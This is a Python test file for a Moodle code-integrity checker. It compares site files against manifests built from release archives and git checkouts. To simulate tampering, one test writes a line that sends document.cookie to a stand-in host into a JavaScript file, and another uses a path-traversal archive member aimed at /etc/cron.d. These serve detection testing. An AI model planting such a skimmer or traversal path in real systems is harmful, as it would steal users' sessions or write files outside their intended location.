"""Release-aware verification: manifests from archives and git checkouts, and what the check
says about files that differ from the release."""

from __future__ import annotations

import asyncio
import tarfile
from pathlib import Path

import pytest
from integrity_helpers import (
    assert_catalogued,
    context,
    make_tgz,
    make_zip,
    sample,
    tree_files,
    write_git_index,
)

from checks.integrity.accept import accept
from checks.integrity.baseline import Tree
from checks.integrity.codetree import CodeIntegrityCheck, CodeIntegritySpec
from checks.integrity.gitindex import IndexError_, read_index
from checks.integrity.manifest import ManifestError, from_archive, from_git, save_manifest
from checks.integrity.store import IntegrityStore
from monitor.kernel.result import Status
from tests.moodle_double.sitedir import FakeSite

SPEC = CodeIntegritySpec.model_validate({"type": "code_integrity"})
NOT_RELEASED = ("config.php", ".fake")  # site-specific: never in an official archive


def release_files(site: FakeSite) -> dict[str, bytes]:
    return tree_files(site.root, skip=NOT_RELEASED)


def run(site: FakeSite, state_dir: Path, clock):
    ctx = context(site, state_dir, clock)
    return assert_catalogued(asyncio.run(CodeIntegrityCheck(SPEC).run(ctx)))


def store_manifest(state_dir: Path, site: FakeSite, archive: Path) -> None:
    with IntegrityStore.in_state_dir(state_dir) as store:
        save_manifest(store, "moodle-test", str(site.root), from_archive(archive), 0.0, "t")


def test_a_tgz_with_a_top_directory_gives_paths_relative_to_the_code_dir(site,
                                                                         tmp_path) -> None:
    files = release_files(site)
    manifest = from_archive(make_tgz(tmp_path / "moodle-4.5.tgz", files,
                                     symlinks={"lib/link": "setup.php"}))
    assert set(manifest.files) == set(files) | {"lib/link"}
    assert manifest.files["lib/link"].stat.link == "setup.php"
    assert manifest.release == "4.5 (Build: 20241007)"
    assert manifest.archive_sha256 and manifest.source == "archive moodle-4.5.tgz"


def test_a_zip_gives_the_same_manifest_as_a_tgz(site, tmp_path) -> None:
    files = release_files(site)
    tgz = from_archive(make_tgz(tmp_path / "m.tgz", files))
    zipped = from_archive(make_zip(tmp_path / "m.zip", files))
    assert {p: r.sha256 for p, r in tgz.files.items()} == \
        {p: r.sha256 for p, r in zipped.files.items()}


def test_a_pristine_tree_matches_its_release(site, state_dir, tmp_path, clock) -> None:
    store_manifest(state_dir, site, make_tgz(tmp_path / "m.tgz", release_files(site)))
    run(site, state_dir, clock)
    result = run(site, state_dir, clock)
    assert result.status == Status.OK, result.summary
    assert sample(result, "lms_integrity_release_mismatch_files") == 0
    assert result.details["release"]["extra"] >= 1  # config.php


def test_a_local_hack_present_at_baseline_time_still_differs_from_the_release(
        site, state_dir, tmp_path, clock) -> None:
    pristine = release_files(site)
    (site.root / "lib" / "weblib.php").write_text("<?php // local hack\n")
    run(site, state_dir, clock)  # the baseline includes the hack
    store_manifest(state_dir, site, make_tgz(tmp_path / "m.tgz", pristine))
    result = run(site, state_dir, clock)
    assert result.status == Status.WARNING
    assert "1 file(s) differ from release 4.5 (Build: 20241007): lib/weblib.php" in \
        result.summary
    assert sample(result, "lms_integrity_release_mismatch_files") == 1
    assert sample(result, "lms_integrity_changed_files", change="modified") == 0
    with IntegrityStore.in_state_dir(state_dir) as store:
        accept(store, Tree("moodle-test", str(site.root)), ["lib/weblib.php"], clock.now, "bob")
    accepted = run(site, state_dir, clock)
    assert accepted.status == Status.OK
    assert accepted.details["release"]["accepted"] == ["lib/weblib.php"]
    assert sample(accepted, "lms_integrity_release_mismatch_files") == 0


def test_a_modified_release_file_is_critical_even_when_not_php(site, state_dir, tmp_path,
                                                               clock) -> None:
    store_manifest(state_dir, site, make_tgz(tmp_path / "m.tgz", release_files(site)))
    run(site, state_dir, clock)
    (site.root / "lib" / "javascript-static.js").write_text("fetch('//x.example/'+document.cookie)")
    (site.root / "README.txt").unlink()
    result = run(site, state_dir, clock)
    assert result.status == Status.CRITICAL
    assert result.details["critical_modified"] == ["lib/javascript-static.js"]
    assert result.details["release"]["mismatch"] == ["lib/javascript-static.js"]
    assert result.details["release"]["missing"] == ["README.txt"]
    assert sample(result, "lms_integrity_release_missing_files") == 1


def test_a_manifest_of_another_release_is_reported_as_stale(site, state_dir, tmp_path,
                                                            clock) -> None:
    files = release_files(site)
    files["version.php"] = files["version.php"].replace(b"4.5 (Build: 20241007)",
                                                        b"4.5.1 (Build: 20241207)")
    store_manifest(state_dir, site, make_tgz(tmp_path / "m.tgz", files))
    run(site, state_dir, clock)
    result = run(site, state_dir, clock)
    assert result.status == Status.WARNING
    assert "the release manifest is for 4.5.1 (Build: 20241207), the code tree is 4.5 " \
           "(Build: 20241007)" in result.summary


def test_archives_that_are_not_archives_are_refused_clearly(tmp_path) -> None:
    junk = tmp_path / "moodle.tgz"
    junk.write_bytes(b"<html>404 not found</html>")
    with pytest.raises(ManifestError, match="not a readable tar or zip archive"):
        from_archive(junk)
    with pytest.raises(ManifestError, match="no such file"):
        from_archive(tmp_path / "missing.tgz")
    with tarfile.open(tmp_path / "empty.tgz", "w:gz"):
        pass
    with pytest.raises(ManifestError, match="holds no files"):
        from_archive(tmp_path / "empty.tgz")


def test_unsafe_member_names_are_skipped(tmp_path) -> None:
    manifest = from_archive(make_tgz(tmp_path / "m.tgz", {"index.php": b"<?php",
                                                          "../../etc/cron.d/x": b"x"}, top=""))
    assert list(manifest.files) == ["index.php"]
    assert manifest.skipped == ["../../etc/cron.d/x"]


@pytest.mark.parametrize("version", [2, 3, 4])
def test_a_git_checkout_gives_the_same_manifest_as_the_archive(site, tmp_path,
                                                               version) -> None:
    files = release_files(site)
    checkout = tmp_path / "checkout"
    for rel, data in files.items():
        (checkout / rel).parent.mkdir(parents=True, exist_ok=True)
        (checkout / rel).write_bytes(data)
    (checkout / "untracked.php").write_text("<?php // not in the index")
    write_git_index(checkout, files, version=min(version, 4))
    manifest = from_git(checkout)
    archive = from_archive(make_tgz(tmp_path / "m.tgz", files))
    assert {p: r.sha256 for p, r in manifest.files.items()} == \
        {p: r.sha256 for p, r in archive.files.items()}
    assert manifest.commit == "ab" * 20 and manifest.release == "4.5 (Build: 20241007)"


def test_a_checkout_with_local_edits_is_not_a_release(site, tmp_path) -> None:
    files = release_files(site)
    checkout = tmp_path / "checkout"
    for rel, data in files.items():
        (checkout / rel).parent.mkdir(parents=True, exist_ok=True)
        (checkout / rel).write_bytes(data)
    write_git_index(checkout, files)
    (checkout / "lib" / "weblib.php").write_text("<?php // edited")
    with pytest.raises(ManifestError, match=r"1 tracked file\(s\) differ.*lib/weblib.php"):
        from_git(checkout)
    assert from_git(checkout, allow_dirty=True).skipped == ["lib/weblib.php"]
    with pytest.raises(ManifestError, match="not a git checkout"):
        from_git(tmp_path)


def test_a_corrupt_git_index_is_refused() -> None:
    with pytest.raises(IndexError_, match="bad signature"):
        read_index(b"NOPE" + bytes(20))
    with pytest.raises(IndexError_, match="truncated or corrupt"):
        read_index(b"DIRC" + (2).to_bytes(4, "big") + (5).to_bytes(4, "big") + bytes(30))
